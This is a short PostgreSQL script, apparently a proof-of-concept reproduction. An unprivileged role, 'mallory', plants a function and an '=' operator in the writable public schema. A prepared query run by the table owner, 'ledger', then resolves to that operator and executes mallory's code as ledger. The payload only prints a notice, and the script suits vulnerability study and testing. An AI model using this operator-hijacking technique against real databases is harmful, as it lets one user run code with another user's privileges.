CREATE ROLE ledger LOGIN; CREATE ROLE mallory LOGIN; CREATE DATABASE ledger OWNER ledger TEMPLATE template0 ENCODING 'UTF8';
\c ledger
GRANT CREATE ON SCHEMA public TO PUBLIC; -- the default up to PostgreSQL 14
\c ledger ledger
CREATE TABLE civ_blocks (height BIGINT PRIMARY KEY, hash TEXT COLLATE "C" NOT NULL); INSERT INTO civ_blocks VALUES (1,'aa');
\c ledger mallory
CREATE FUNCTION public.evil(text, varchar) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'mallory code runs as %', current_user; RETURN $1 OPERATOR(pg_catalog.=) $2::text; END $$;
CREATE OPERATOR public.= (LEFTARG=text, RIGHTARG=varchar, FUNCTION=public.evil);
\c ledger ledger
SELECT set_config('search_path', quote_ident(current_schema()), false);
PREPARE block_find (varchar) AS SELECT height FROM civ_blocks WHERE hash = $1;
EXECUTE block_find('aa');
